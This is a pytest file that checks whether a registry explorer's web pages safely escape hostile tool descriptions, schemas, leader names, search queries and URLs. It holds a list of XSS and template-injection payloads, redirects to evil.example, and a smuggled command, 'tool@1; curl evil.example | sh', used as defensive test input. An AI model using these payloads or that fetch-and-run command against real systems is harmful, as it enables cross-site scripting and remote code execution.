"""Hostile texts of tools, leaders and schemas do no harm on any page."""

import json
import re
from urllib.parse import quote

import pytest

from nexus_tools.explorer import ChainReader, Explorer
from nexus_tools.explorer.formatting import clean, marked
from nexus_tools.index import IndexIdentity
from nexus_tools.index.api import IndexSource
from nexus_tools.registry import LeaderRegistry, Registration
from nexus_tools.sui.client import RetryPolicy, SuiClient
from nexus_tools.sui.network import Network
from tests.explorer.conftest import UNLIMITED, PageParser, Pages, check
from tests.hostile_market import RawRegistration
from tests.index.api.conftest import synthetic_index
from tests.index.synthetic import DEPLOYMENT

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><iframe src=//evil.example>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Search</button></form>",
    "\x1b[31mred\x1b[0m\x07\x08\x00",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060",
    "lines\r\n\u2028\u2029\x85ends",
    "a" * 4_000,
    "]]><![CDATA[<x>]]> <!-- comment --!>",
]
ALLOWED = set(
    """
    html head meta title link script body a header div img span nav ul li form label input p button
    main h1 h2 h3 dl dt dd section table caption thead tbody tr th td code pre time small svg line g
    rect bdi details summary footer select option fieldset legend textarea figure figcaption wbr br
    strong ol
    """.split()  # noqa: SIM905 - a list would take many lines
)


def check_elements(page):
    assert {tag for tag, _ in PageParser(page).elements} <= ALLOWED


def hostile_schema(text):
    port = {"type": "string", "title": text, "description": text, "examples": [text]}
    inner = {"type": "object", "properties": {text[:60]: port}, "description": text}
    return {
        "type": "object",
        "description": text,
        "properties": {"a": port, "b": inner, "c": {"enum": [text, 1]}},
        "required": ["a"],
        "additionalProperties": False,
    }


@pytest.fixture
async def hostile(chain, clients, define, show):
    """Register tools and leaders with hostile texts, and return a client and their pages."""
    from nexus_tools.registry import ToolRegistry

    tools = ToolRegistry(clients["owner"], chain.deployment)
    paths = ["/", "/tools", "/leaders", f"/accounts/{clients['owner'].address}"]
    registrations = []
    for number, text in enumerate(HOSTILE):
        fqn = f"xyz.hostile.tool{number}@1"
        schema = hostile_schema(text.replace("\x00", "")[:1_000])
        definition = define(fqn, description=text, input_schema=schema)
        registrations.append(Registration(definition))
        paths.append(f"/tools/{fqn}")
    async for _ in tools.register_all(*registrations):
        pass
    leaders = LeaderRegistry(clients["leader"], chain.deployment)
    for text in HOSTILE[:4] + HOSTILE[14:17]:
        _, leader = await leaders.register(text, activate=True)
        paths.append(f"/leaders/{leader}")
    return await show(), paths


async def test_hostile_texts_on_chain_do_no_harm(hostile):
    pages, paths = hostile
    for path in paths:
        check_elements((await pages.get(path)).text)


async def test_hostile_search_and_form_values_do_no_harm(hostile):
    pages, _ = hostile
    for text in HOSTILE:
        value = text[:190]
        response = await pages.http.get("/tools", params={"q": value})
        assert response.status_code in (200, 400)
        check(response)
        check_elements(response.text)
        values = {"filled": "1", "in/a": value, "in/c": value, "in/b/x": value}
        page = (await pages.get("/tools/xyz.hostile.tool0@1", params=values)).text
        check_elements(page)
        response = await pages.http.get(f"/tools/{quote(value, safe='')}")
        assert response.status_code in (400, 404)
        check(response)
        check_elements(response.text)


def large_schemas():
    """Yield schemas of almost the maximum size, which is 49 152 bytes, with texts to escape."""
    quotes = "'" * 40_000
    one = {"type": "string", "description": quotes}
    yield {"a": one}
    yield {f"p{n}": {"type": "string", "title": quotes[:700], "enum": [n]} for n in range(32)}
    yield {"a": {"enum": [quotes[:20_000]]}}
    yield {"a": {"enum": [f"{quotes[:300]}{n}" for n in range(100)]}}
    yield {"a": {"type": "string", "minLength": 90_000}}
    yield {"a": {"type": "string", "examples": [quotes]}}
    deep = {"type": "object", "properties": {"x": one}}
    yield {"a": {"type": "object", "properties": {quotes[:n]: {} for n in range(1, 200)}}}
    yield {f"p{n}": deep if n == 0 else {"$ref": "#/properties/p0"} for n in range(32)}


async def test_large_definitions_leave_pages_small(chain, clients, define, show):
    from nexus_tools.registry import ToolRegistry

    tools = ToolRegistry(clients["owner"], chain.deployment)
    fqns = []
    for number, ports in enumerate(large_schemas()):
        for version in (1, 2):
            fqns.append(f"xyz.large.tool{number}@{version}")
            schema = {"type": "object", "properties": ports, "additionalProperties": False}
            if version == 2:
                schema["required"] = list(ports)
            await tools.register(Registration(define(fqns[-1], input_schema=schema)))
    pages = await show()
    for fqn in fqns:
        await pages.get(f"/tools/{fqn}")  # checks the size


async def test_changes_of_a_tool_with_an_invalid_schema_are_shown(chain, clients, define, show):
    from nexus_tools.registry import ToolRegistry

    tools = ToolRegistry(clients["owner"], chain.deployment)
    schemas = [{"properties": 1}, {"properties": {"a": {"enum": 1}}}, {"properties": {"a": {}}}]
    url = "https://tools.example.com/add"
    for version, schema in enumerate(schemas, 1):
        definition = define(f"xyz.invalid.tool@{version}", timeout=5_000 + version)
        text = json.dumps(schema).encode()
        await tools.register(RawRegistration(definition, url=url, input_schema=text))
    pages = await show()
    for version in (2, 3):
        assert "The timeout is" in await pages.text(f"/tools/xyz.invalid.tool@{version}")
    assert "Input a is new" in await pages.text("/tools/xyz.invalid.tool@3")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "https://user:password@tools.example",
        "https://tools.example/ onclick=alert(1)",
        "//evil.example",
        "ftp://tools.example/",
        "https://tools.example/" + "a" * 3_000,
        "x" * 100_000,
    ],
)
async def test_hostile_url_is_not_a_link(tmp_path, url):
    pages, close = await synthetic_pages(tmp_path, url=url)
    for path in ("/tools/xyz.domain0.tool0@1", "/tools", "/"):
        page = (await pages.get(path)).text
        check_elements(page)
        assert f'href="{url[:20]}' not in page
    await close()


async def test_long_texts_leave_pages_small(tmp_path):
    texts = ["x" * 100_000, "\u202e" * 100_000, "<" * 100_000, "a\n" * 50_000]
    for text in texts:
        pages, close = await synthetic_pages(tmp_path, description=text)
        for path in ("/", "/tools", "/tools/xyz.domain0.tool0@1"):
            await pages.get(path)  # checks the size
        await close()


async def test_hostile_fqn_in_an_index_does_no_harm(tmp_path):
    for text in HOSTILE[:14]:
        pages, close = await synthetic_pages(tmp_path, fqn=f"{text}.tool@1")
        for path in ("/", "/tools"):
            check_elements((await pages.get(path)).text)
        await close()


async def test_commands_never_contain_an_invalid_fqn(tmp_path):
    pages, close = await synthetic_pages(tmp_path, fqn="xyz.example.tool@1; curl evil.example | sh")
    page = (await pages.get("/")).text
    commands = re.findall(r"<pre[^>]*><code>(.*?)</code>", page, re.DOTALL)
    assert not any("evil.example" in command for command in commands)
    await close()


async def synthetic_pages(folder, **fields):
    """Return a client of an index with one tool, and a function that closes both."""
    path = folder / "synthetic.sqlite"
    path.unlink(missing_ok=True)
    with synthetic_index(path) as synthetic:
        synthetic.write(synthetic.events.tool(0, **fields))
    source = IndexSource(path, IndexIdentity.of(DEPLOYMENT))
    network = Network("nowhere", "http://127.0.0.1:1")
    client = SuiClient(network, retry_policy=RetryPolicy.interactive(0.1))
    await client.__aenter__()
    explorer = Explorer("nowhere", limits=UNLIMITED)
    explorer.open(source, ChainReader(client, DEPLOYMENT))
    pages = Pages(explorer)

    async def close():
        await pages.http.aclose()
        await client.__aexit__(None, None, None)
        source.close()

    return pages, close


def test_backticks_mark_code():
    assert marked("Run `a <b>`, then `c`.") == "Run <code>a &lt;b&gt;</code>, then <code>c</code>."
    assert marked("`a` and ` <b>") == "`a` and ` &lt;b&gt;"


def test_marks_on_a_character_are_limited():
    assert clean("Z" + "\u0301\u0489" * 10) == "Z" + "\u0301\u0489" * 4 + "…"
    assert clean("e\u0323\u0302\u0301 and e\u0323") == "e\u0323\u0302\u0301 and e\u0323"
